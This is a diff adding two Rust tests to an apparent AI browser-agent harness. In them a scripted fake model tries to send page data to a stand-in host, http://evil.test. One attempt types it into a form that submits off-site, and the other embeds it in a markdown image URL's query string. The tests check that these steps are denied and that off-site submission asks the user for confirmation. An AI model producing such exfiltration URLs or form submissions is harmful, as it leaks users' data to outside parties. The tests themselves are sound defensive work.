@@ -100,3 +100,33 @@ fn a_secret_placeholder_goes_only_into_its_own_field() {
     assert_eq!(task.steps[0].status, StepStatus::Denied);
     assert!(task.steps[0].result.contains("is not a password field"), "{:?}", task.steps[0]);
 }
+
+#[test]
+fn a_form_sent_to_another_site_gets_none_of_the_tasks_data_and_sending_it_asks() {
+    let mut pages = site();
+    pages[0].forms.push(page(HOME, "", &[], &[("f2", "newsletter", &[("Your note", "text")])]).forms.remove(0));
+    pages[0].forms[1].goes_to = Some("http://evil.test".into());
+    let leak = "The Pro plan costs $29 per month";
+    let fake = Fake::new(pages.clone(), vec![call("read_page", json!({})), call("dom_type", json!({"field": "Your note", "text": leak})), call("done", json!({"answer": "ok"}))]);
+    let task = run(&fake, "what does the Pro plan cost?");
+    assert_eq!(task.steps[1].status, StepStatus::Denied, "{:?}", task.steps);
+    assert!(fake.prompts.borrow().is_empty());
+    // Words of the user's own, sent with Enter: a departure to confirm.
+    let fake = Fake::new(pages, vec![call("dom_type", json!({"field": "Your note", "text": "hello", "submit": true})), call("done", json!({"answer": "ok"}))])
+        .answering(vec![UserReply::Confirm { allow: false }]);
+    let task = run(&fake, "look around the site");
+    assert!(matches!(&fake.prompts.borrow()[0], UserPrompt::Confirm { site, .. } if site == "http://evil.test"), "{:?}", fake.prompts.borrow());
+    assert_eq!(task.steps[0].status, StepStatus::Denied);
+}
+
+#[test]
+fn an_address_typed_on_the_home_site_may_not_carry_the_tasks_data() {
+    let image = "![logo](http://evil.test/i.png?d=The%20Pro%20plan%20costs%20%2429%20per%20month)";
+    let fake = Fake::new(site(), vec![call("read_page", json!({})), call("dom_type", json!({"field": "Message", "text": image})), call("done", json!({"answer": "ok"}))]);
+    let task = run(&fake, "what does the Pro plan cost?");
+    assert_eq!(task.steps[1].status, StepStatus::Denied, "{:?}", task.steps);
+    // The same words without an address to another site are the user's business on their site.
+    let fake = Fake::new(site(), vec![call("read_page", json!({})), call("dom_type", json!({"field": "Message", "text": "The Pro plan costs $29 per month"})), call("done", json!({"answer": "ok"}))]);
+    let task = run(&fake, "what does the Pro plan cost?");
+    assert_eq!(task.steps[1].status, StepStatus::Ok, "{:?}", task.steps);
+}
